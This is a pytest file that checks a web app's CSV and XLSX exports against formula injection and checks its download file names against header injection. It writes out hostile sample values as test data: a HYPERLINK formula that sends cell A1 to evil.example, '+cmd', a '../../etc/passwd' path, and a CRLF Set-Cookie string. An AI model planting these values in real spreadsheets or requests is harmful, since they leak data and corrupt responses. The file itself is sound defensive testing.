"""Exports that cannot poison a spreadsheet, round-trip through the import, and name their files
safely: every CSV and XLSX download goes through app.exports."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from werkzeug.http import parse_options_header

from app.exports import FORMULA_STARTS, attachment_headers, read_cell, safe_cell
from app.extensions import db
from app.models import Cadre, Unit
from tests.helpers import CITY_ADMIN, THIRDS_QUIZ, run_import, seed_attempts, write_course

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_UNIT = "+cmd"

# Every export a city admin can download, in each of its formats.
REVIEW_EXPORTS = [
    f"/review/export.{fmt}?unit=SO-NV{what}"
    for fmt in ("csv", "xlsx")
    for what in ("", "&what=cadres", "&what=profiles", "&what=units-tree")
] + ["/review/hours?format=csv&unit=SO-NV", "/audit/export.csv"]


@pytest.fixture
def planted(world, app):
    """A cadre and a unit with names that a spreadsheet would run as formulas (as an import by a
    ward admin could plant them)."""
    with app.app_context():
        db.session.execute(
            update(Cadre).where(Cadre.employee_code == "HN-000001").values(full_name=EVIL_NAME)
        )
        db.session.execute(update(Unit).where(Unit.code == "SO-NV-TCCB").values(name=EVIL_UNIT))
        db.session.commit()


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_safe_csv(rows: list[list[str]], *texts: str) -> None:
    """No cell begins a formula (except a number); each text is there, neutralised."""
    cells = [cell for row in rows for cell in row]
    assert all(not c.startswith(FORMULA_STARTS) or is_number(c) for c in cells), cells
    for text in texts:
        assert "'" + text in cells


def assert_safe_xlsx(data: bytes, *texts: str) -> None:
    """No formula cell; each text shown as it is, in a text cell Excel keeps as text."""
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found and all(c.data_type == "s" and c.quotePrefix for c in found)


@pytest.mark.parametrize("path", REVIEW_EXPORTS)
def test_no_export_carries_a_formula(planted, auth, client, path):
    auth.login(*CITY_ADMIN)
    if path.startswith("/audit"):
        client.get("/review/export.csv?what=cadres&unit=SO-NV-TCCB")  # an audit entry about the unit
    response = client.get(path)
    assert response.status_code == 200
    cadre_rows = "what=cadres" in path or "what=profiles" in path
    texts = [EVIL_NAME] if cadre_rows else [EVIL_UNIT]
    if path.startswith("/audit"):
        texts = [EVIL_UNIT]
    if ".xlsx" in path:
        assert_safe_xlsx(response.data, *texts)
    else:
        assert_safe_csv(csv_rows(response.data), *texts)


def test_numbers_stay_numbers_in_xlsx(planted, auth, client):
    auth.login(*CITY_ADMIN)
    sheet = load_workbook(io.BytesIO(client.get("/review/export.xlsx?unit=SO-NV&what=cadres").data)).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows and all(isinstance(value, int) for row in rows for value in row[4:7])


# The thirds quiz with a formula planted in a question's title.
QUIZ = THIRDS_QUIZ.replace("## Dễ {#de", '## =HYPERLINK("http://evil.example/?"&A1,"x") {#de')


def test_item_analysis_csv_is_neutralised_and_keeps_negative_numbers(
    app, make, make_user, auth, client, courses_root, import_folder
):
    seed_attempts(app, courses_root, import_folder, QUIZ)
    make_user("gv@example.vn", role="trainer")
    make.course_trainer("gv@example.vn", "DE")
    auth.login("gv@example.vn")
    response = client.get("/teach/courses/DE/quizzes/de/items.csv")
    rows = csv_rows(response.data)
    assert_safe_csv(rows, EVIL_NAME)
    by_qid = {row[0]: row for row in rows}
    assert by_qid["hong"][5] == "-1.0"  # a negative number is a number, not text
    assert response.headers["Content-Disposition"].startswith('attachment; filename="DE-de-items.csv"')


def test_a_formula_like_name_round_trips_through_the_import(planted, app, auth, client):
    auth.login(*CITY_ADMIN)
    files = {
        "units.csv": client.get("/review/export.csv?what=units-tree").data,
        "profiles.csv": client.get("/review/export.csv?what=profiles").data,
        "units.xlsx": client.get("/review/export.xlsx?what=units-tree").data,
        "profiles.xlsx": client.get("/review/export.xlsx?what=profiles").data,
    }
    for suffix in ("csv", "xlsx"):
        with app.app_context():
            db.session.execute(update(Cadre).where(Cadre.employee_code == "HN-000001").values(full_name="X"))
            db.session.execute(update(Unit).where(Unit.code == "SO-NV-TCCB").values(name="X"))
            db.session.commit()
        for kind in ("units", "profiles"):
            result = run_import(app, files[f"{kind}.{suffix}"], f"{kind}.{suffix}")
            assert result.exit_code == 0, result.output
            assert "1 updated" in result.output, result.output  # only the planted name changed back
        with app.app_context():
            assert (
                db.session.scalar(select(Cadre.full_name).where(Cadre.employee_code == "HN-000001"))
                == EVIL_NAME
            )
            assert db.session.scalar(select(Unit.name).where(Unit.code == "SO-NV-TCCB")) == EVIL_UNIT


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+cmd", "-x", "@SUM(A1)", "\tx", "\rx", "'=1", "''+x", "'plain", "plain", "", "'", "a=b"],
)
def test_read_cell_undoes_safe_cell(value):
    assert read_cell(safe_cell(value)) == value


def test_numbers_are_not_text():
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5


def parse_disposition(header: str) -> tuple[str, str]:
    """The ASCII fallback name, and the name a browser shows (filename*, RFC 5987, wins)."""
    kind, params = parse_options_header(header)
    assert kind == "attachment"
    return re.search(r'filename="([^"]*)"', header).group(1), params["filename"]


@pytest.mark.parametrize(
    ("name", "fallback", "full"),
    [
        ("hours-2025.csv", "hours-2025.csv", "hours-2025.csv"),
        ("cadres-Phường Ba Đình.xlsx", "cadres-Phuong_Ba_Dinh.xlsx", "cadres-Phường Ba Đình.xlsx"),
        ('a"b\r\nSet-Cookie: x=1.csv', "ab_Set-Cookie_x_1.csv", "ab Set-Cookie: x=1.csv"),
        ("../../etc/passwd", "etcpasswd", "etcpasswd"),
        ("\r\n", "download", "download"),
    ],
)
def test_attachment_headers_cannot_be_broken(name, fallback, full):
    header = attachment_headers(name)["Content-Disposition"]
    assert "\r" not in header and "\n" not in header and header.count('"') == 2
    assert header.startswith("attachment; ") and header.isascii()
    ascii_name, decoded = parse_disposition(header)
    assert ascii_name == fallback
    assert decoded == full
    assert unquote(header.split("filename*=UTF-8''")[1]) == full


def test_a_unit_code_with_crlf_and_quotes_never_reaches_a_header(world, app, auth, client):
    """Such a code (left in the data by an older version) is refused as a parameter with a 400;
    the file name function keeps headers whole whatever it is given (the test above)."""
    bad = 'SO-NV"; x\r\nSet-Cookie: a=b'
    with app.app_context():
        db.session.execute(update(Unit).where(Unit.code == "SO-NV").values(code=bad))
        db.session.commit()
    auth.login(*CITY_ADMIN)
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/review/export.{fmt}", query_string={"unit": bad})
        assert response.status_code == 400
        assert "Content-Disposition" not in response.headers
        assert "a=b" not in response.headers.get("Set-Cookie", "")


def test_the_item_analysis_file_name_is_safe_too(
    app, make, make_user, auth, client, courses_root, import_folder
):
    import_folder(write_course(courses_root, "de", code="DE", lessons={"01-de.md": QUIZ}))
    make_user("gv@example.vn", role="trainer")
    make.course_trainer("gv@example.vn", "DE")
    auth.login("gv@example.vn")
    header = client.get("/teach/courses/DE/quizzes/de/items.csv").headers["Content-Disposition"]
    assert header == "attachment; filename=\"DE-de-items.csv\"; filename*=UTF-8''DE-de-items.csv"


def test_an_unknown_export_is_refused_and_an_unknown_format_is_not_found(world, app, auth, client):
    auth.login(*CITY_ADMIN)
    response = client.get("/review/export.csv?unit=SO-NV&what=unit-tree")  # a typo: not the unit table
    assert response.status_code == 400
    assert "Content-Disposition" not in response.headers
    assert "Giá trị của “what” không hợp lệ." in response.get_data(as_text=True)
    response = client.get("/review/export.pdf?unit=SO-NV")
    assert response.status_code == 404
    assert "Không tìm thấy trang" in response.get_data(as_text=True)  # the site's page, not an empty body
    for what in ("", "units"):  # the unit table, asked for by default or by name
        response = client.get(f"/review/export.csv?unit=SO-NV&what={what}")
        assert response.status_code == 200
        assert csv_rows(response.data)[0][:2] == ["unit_code", "unit_name"]
